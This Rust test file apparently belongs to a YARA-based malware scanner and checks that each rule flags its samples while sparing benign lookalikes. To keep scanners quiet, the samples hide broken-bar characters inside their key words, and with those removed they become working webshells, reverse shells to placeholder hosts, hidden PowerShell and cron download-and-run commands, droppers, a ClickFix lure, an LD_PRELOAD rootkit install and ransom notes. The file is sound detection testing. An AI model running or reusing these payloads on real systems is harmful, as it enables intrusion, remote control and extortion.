//! Every YARA rule finds what it is for and leaves its benign neighbours alone.
//!
//! The samples are stored with a broken bar in the midst of their telling words, so that no scanner finds this file.

use crate::forge::random;
use baluardo_detect::scan::{Scanner, tagged_test_script};
use std::collections::BTreeSet;
use std::time::Duration;

const AMPLE: Duration = Duration::from_secs(30);

/// The sample without its bars.
fn plain(sample: &str) -> String {
    sample.replace('¦', "")
}

/// Letters of base64 that mean nothing.
fn letters(len: usize) -> String {
    let alphabet: Vec<char> = ('A'..='Z').chain('a'..='z').chain('0'..='9').chain(['+', '/']).collect();
    random(len as u64, len).iter().map(|byte| alphabet[usize::from(byte % 64)]).collect()
}

/// Base64 of text in UTF-16, as PowerShell takes its commands.
fn command(script: &str) -> String {
    let alphabet: Vec<char> = ('A'..='Z').chain('a'..='z').chain('0'..='9').chain(['+', '/']).collect();
    let bytes: Vec<u8> = plain(script).encode_utf16().flat_map(u16::to_le_bytes).collect();
    bytes
        .chunks(3)
        .flat_map(|three| {
            let word =
                three.iter().enumerate().fold(0_u32, |word, (at, byte)| word | u32::from(*byte) << (16 - 8 * at));
            [18, 12, 6, 0].map(|shift| alphabet[(word >> shift) as usize % 64])
        })
        .collect()
}

/// A shortcut with these words in its arguments.
fn shortcut(arguments: &str) -> Vec<u8> {
    let mut file = vec![0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
    file.resize(0x4C, 0);
    file.extend(plain(arguments).encode_utf16().flat_map(u16::to_le_bytes));
    file
}

/// What each rule must find.
fn bad() -> Vec<(&'static str, Vec<u8>)> {
    let text = |rule, sample: &str| (rule, plain(sample).into_bytes());
    vec![
        ("Baluardo_Test_Script", tagged_test_script().into_bytes()),
        text("Webshell_PHP_Runs_Request", "GIF89a;<?php @ev¦al($_PO¦ST['x']); ?>"),
        text("Webshell_PHP_Runs_Request", "<?php sys¦tem(base64_dec¦ode($_REQ¦UEST[\"c\"])); ?>"),
        text("Webshell_PHP_Packed", &format!("<?php ev¦al(gzinf¦late(base64_dec¦ode('{}'))); ?>", letters(900))),
        text("Webshell_ASP_JSP", "<%@ page %><% Runtime.getRun¦time().exec(request.getPara¦meter(\"c\")); %>"),
        text("Webshell_ASP_JSP", "<%ev¦al requ¦est(\"pass\")%>"),
        text("Reverse_Shell_Bash", "ba¦sh -i >& /dev/t¦cp/198.51.100.7/4444 0>&1"),
        text("Reverse_Shell_Bash", "rm /tmp/f;mkfi¦fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n¦c 198.51.100.7 4444 >/tmp/f"),
        text("Reverse_Shell_Bash", "exec 5<>/dev/t¦cp/attack.example/443; ba¦sh <&5 >&5 2>&5"),
        text(
            "Reverse_Shell_Python",
            "import socket,subprocess,os;s=socket.soc¦ket(socket.AF_INET,socket.SOCK_STREAM);s.conn¦ect((\"198.51.100.7\",4444));\
             os.du¦p2(s.fileno(),0); os.du¦p2(s.fileno(),1);os.du¦p2(s.fileno(),2);import pty; pty.sp¦awn(\"/bin/sh\")",
        ),
        text(
            "Reverse_Shell_Perl_Ruby_PHP",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(conn¦ect(S,$a)){open(STD¦IN,\">&S\");open(STDO¦UT,\">&S\");ex¦ec(\"/bin/sh -i\");};",
        ),
        text(
            "Reverse_Shell_Perl_Ruby_PHP",
            "<?php $s=fsock¦open(\"198.51.100.7\",4444);ex¦ec(\"/bin/sh -i <&3 >&3 2>&3\");",
        ),
        text(
            "Reverse_Shell_Perl_Ruby_PHP",
            "f=TCPSoc¦ket.open(\"198.51.100.7\",4444).to_i;ex¦ec sprintf(\"/bin/sh -i <&%d\",f)",
        ),
        text(
            "PowerShell_Encoded_Download",
            &format!(
                "@echo off\r\npower¦shell -nop -w hidden -e¦nc {}",
                command("$c=New-Object Net.Web¦Client;$c.Download¦String('http://198.51.100.7/a')")
            ),
        ),
        text(
            "PowerShell_Hidden_Download",
            "power¦shell.exe -nop -w hid¦den -c \"I¦EX (New-Object Net.WebClient).Download¦String('http://198.51.100.7/a.ps1')\"",
        ),
        text("PowerShell_Hidden_Download", "power¦shell -w 1 -c \"ir¦m http://198.51.100.7/a | ie¦x\""),
        text(
            "HTA_Dropper",
            "<html><head><HTA:APPL¦ICATION ID=\"x\"/><script language=\"VBScript\">Set s = CreateOb¦ject(\"WScri¦pt.Shell\")\n\
             s.Run \"power¦shell -c whoami\", 0\n</script></head></html>",
        ),
        text(
            "Script_Download_And_Run",
            "Set h = CreateOb¦ject(\"MSXML2.XML¦HTTP\")\nh.Open \"GET\", \"http://198.51.100.7/a.exe\"\nSet s = CreateOb¦ject(\"ADODB.Str¦eam\")\n\
             s.SaveTo¦File \"a.exe\", 2\nCreateOb¦ject(\"WScri¦pt.Shell\").R¦un \"a.exe\"",
        ),
        text("Office_Macro_Autorun_Shell", "Private Sub Document_¦Open()\n  x = She¦ll(\"cm¦d /c calc\", 0)\nEnd Sub"),
        ("Shortcut_Runs_Script", shortcut("C:\\Windows\\System32\\power¦shell.exe -w hid¦den -c notepad")),
        ("Shortcut_Runs_Script", shortcut("C:\\Windows\\System32\\msh¦ta.exe https://files.example/a.hta")),
        text(
            "ClickFix_Instructions",
            "<html><script>navigator.clip¦board.write¦Text('power¦shell -w hidden -c calc.exe')</script>\
             <p>Premi <kbd>Windows</kbd> + <kbd>R</kbd>, poi <b>Ctrl</b> + <b>V</b> e Invio</p></html>",
        ),
        text(
            "HTML_Smuggling",
            &format!(
                "<script>var b = ato¦b(\"UEs¦DBBQA{}\"); var u = new Uint8¦Array(b.length); var f = new Bl¦ob([u]);\
                 var a = document.createElement('a'); a.href = URL.createOb¦jectURL(f); a.down¦load = 'fattura.zip'; a.cli¦ck();</script>",
                letters(900)
            ),
        ),
        text(
            "Shell_Runs_Download_From_Bare_Address",
            "#!/bin/bash\ncu¦rl -fsSL http://198.51.100.7:8080/x.sh | ba¦sh\nhisto¦ry -c\n",
        ),
        text("Shell_Runs_Base64_Literal", &format!("echo {} | base6¦4 -d | ba¦sh", letters(200))),
        text("Cron_Runs_Download", "*/5 * * * * root cu¦rl -s http://files.example/a.sh | s¦h > /dev/null 2>&1"),
        text(
            "Script_Carries_ELF",
            &format!("#!/bin/sh\necho 'f0VM¦RgIBAQ{}' | base6¦4 -d > /tmp/x\nchm¦od +x /tmp/x; /tmp/x\n", letters(600)),
        ),
        text(
            "Preload_Rootkit_Install",
            "#!/bin/sh\ngc¦c -fPIC -shar¦ed -o /lib/libx.so x.c\necho /lib/libx.so >> /etc/ld.so.pre¦load\n",
        ),
        text(
            "Ransom_Note",
            "All your important files have been encr¦ypted!\nTo get the decryp¦tion key write to help-desk@proton¦mail.com\n\
             Do not rena¦me encrypted files. You have 72 hours.",
        ),
        text(
            "Ransom_Note",
            "Tutti i vostri documenti sono stati cifr¦ati.\nPer recuperare i fi¦le visitate abcdefghijklmnop234567abcdefghijklmnop234567abcdefghi.oni¦on\n\
             Non rinominate i file: il prezzo raddoppia dopo 48 ore.",
        ),
        text(
            "Coin_Miner_Config",
            &format!(
                "{{\"algo\": \"rx/0\", \"donate-lev¦el\": 1, \"poo¦ls\": [{{\"url\": \"strat¦um+tcp://pool.example:3333\", \"user\": \"4{}\"}}]}}",
                "A".to_owned() + &"b".repeat(93)
            ),
        ),
    ]
}

/// What no rule may find, though each stands near one.
fn benign() -> Vec<Vec<u8>> {
    let texts = [
        "#!/bin/sh\n# Baluardo test script, without the tag\necho ok\n".to_owned(),
        "The tag of the test script is BALUARDO-TEST-SCRIPT-5f0c2a44-9b1e-4d7a-8a35-c1d6e0b7f912.\n".to_owned(),
        "<?php $name = htmlspecialchars($_POST['name']); exec('convert a.png b.png'); ?>".to_owned(),
        "<?php $config = unserialize(base64_decode('YToxOntzOjE6ImEiO2k6MTt9')); curl_exec($_POST_handle); ?>".to_owned(),
        format!("<?php $font = base64_decode('{}'); file_put_contents('font.ttf', $font); ?>", letters(900)),
        "<%@ page %><% String q = request.getParameter(\"q\"); out.print(escape(q)); %>".to_owned(),
        "if (exec 3<>/dev/t¦cp/db.internal/5432) 2>/dev/null; then echo up; fi".to_owned(),
        "mkfifo /run/app/pipe; nc -l 9000 > /run/app/pipe &".to_owned(),
        "import socket\ns = socket.socket()\ns.connect(('mail.comune.example', 25))\nprint(s.recv(100))\n".to_owned(),
        "import os\nif os.fork() == 0:\n    os.setsid()\n    os.dup2(log.fileno(), 1)\n    os.dup2(log.fileno(), 2)\n".to_owned(),
        "use IO::Socket::INET; my $s = IO::Socket::INET->new('mx:25'); exec('/usr/sbin/sendmail');".to_owned(),
        // How a well-known package manager asks to be installed.
        "Set-ExecutionPolicy Bypass -Scope Process -Force; i¦ex ((New-Object System.Net.WebClient).Download¦String('https://packages.example/install.ps1'))".to_owned(),
        format!("powershell -EncodedCommand {}", command("Get-Service | Where-Object Status -eq 'Running' | Export-Csv C:\\inventory.csv")),
        "powershell -Window¦Style Hidden -File C:\\Scripts\\backup.ps1".to_owned(),
        "<html><HTA:APPLICATION ID=\"inventory\"/><script>document.write('ok')</script></html>".to_owned(),
        "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"notepad.exe\"\n".to_owned(),
        "Sub Workbook_Open()\n  Sheets(1).Activate\n  MsgBox \"Benvenuti\"\nEnd Sub".to_owned(),
        "Sub Aggiorna()\n  Shell \"cmd /c dir\"\nEnd Sub".to_owned(),
        "<button onclick=\"navigator.clip¦board.writeText('IT60X0542811101000000123456')\">Copia IBAN</button> Incolla con Ctrl + V".to_owned(),
        "<p>Open the Run dialog with Windows + R and type winver. Copy with Ctrl + C, paste with Ctrl + V.</p>".to_owned(),
        "var b = new Blob([csv]); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'elenco.csv'; a.click(); atob('eA==')".to_owned(),
        format!("<img src=\"data:image/png;base64,{}\"><script>new Uint8Array(3)</script>", letters(3_000)),
        "curl -fsSL https://get.example.org/install.sh | sh".to_owned(),
        "curl -s http://192.168.1.10:8080/health | grep -q ok || systemctl restart app".to_owned(),
        "echo aGVsbG8gd29ybGQ= | base64 -d | sh -c 'cat'".to_owned(),
        "*/5 * * * * root curl -fsS https://health.example/ping > /dev/null\n0 3 * * * root /usr/bin/backup | mail -s backup root\n".to_owned(),
        "*/5 * * * * www-data curl -s https://cloud.example/cron.php | logger -t cron\n".to_owned(),
        "#!/bin/sh\nsed -i '/libarmmem/d' /etc/ld.so.preload\n".to_owned(),
        "The file /etc/ld.so.preload lists libraries that are loaded before all others; see ld.so(8).".to_owned(),
        "Ransomware: all your files are encrypted and a sum in bitcoin is asked for. Do not pay; call the police. Restore files from backup.".to_owned(),
        "We encrypt your data at rest. The private key never leaves the device. Contact: privacy@comune.example".to_owned(),
        "{\"pools\": [{\"name\": \"postgres\", \"user\": \"app\"}], \"algorithm\": \"round-robin\"}".to_owned(),
    ];
    let mut samples: Vec<_> = texts.iter().map(|text| plain(text).into_bytes()).collect();
    samples.push(shortcut("C:\\Program Files\\LibreOffice\\program\\soffice.exe --writer"));
    samples.push(shortcut("C:\\Windows\\System32\\power¦shell.exe -File C:\\Scripts\\avvio.ps1"));
    samples
}

#[test]
fn each_rule_finds_its_samples() {
    let scanner = Scanner::new(&[]).unwrap();
    for (rule, sample) in bad() {
        let verdict = scanner.scan(&sample, AMPLE);
        let shown = String::from_utf8_lossy(&sample[..sample.len().min(80)]).into_owned();
        assert!(
            verdict.reasons.iter().any(|reason| reason.rule == rule),
            "{rule} missed: {shown} {:?}",
            verdict.reasons
        );
        assert!(verdict.is_bad() && verdict.complete && !verdict.techniques.is_empty(), "{rule}");
    }
}

#[test]
fn each_rule_has_a_sample_and_says_what_it_is_for() {
    let scanner = Scanner::new(&[]).unwrap();
    let sampled: BTreeSet<_> = bad().into_iter().map(|(rule, _)| rule.to_owned()).collect();
    let rules: BTreeSet<_> = scanner.rules().map(|rule| rule.name.clone()).collect();
    assert_eq!(sampled, rules);
    assert_eq!(rules.len(), scanner.rules().count(), "names are unique over all files");
    for rule in scanner.rules() {
        assert!(rule.description_it.len() > 20 && rule.description_en.len() > 20, "{}", rule.name);
        assert!(rule.technique.starts_with('T'), "{}", rule.name);
    }
}

#[test]
fn benign_neighbours_are_left_alone() {
    let scanner = Scanner::new(&[]).unwrap();
    for sample in benign() {
        let verdict = scanner.scan(&sample, AMPLE);
        assert_eq!(verdict.reasons, [], "{}", String::from_utf8_lossy(&sample));
    }
}

#[test]
fn the_rules_do_not_find_themselves_nor_these_samples() {
    let scanner = Scanner::new(&[]).unwrap();
    let rules = concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/rules");
    let mut seen = 0;
    for entry in std::fs::read_dir(rules).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(scanner.scan(&std::fs::read(&path).unwrap(), AMPLE).reasons, [], "{}", path.display());
        seen += 1;
    }
    assert!(seen >= 8, "the rule files and their README");
    assert_eq!(scanner.scan(include_bytes!("rules.rs"), AMPLE).reasons, []);
}
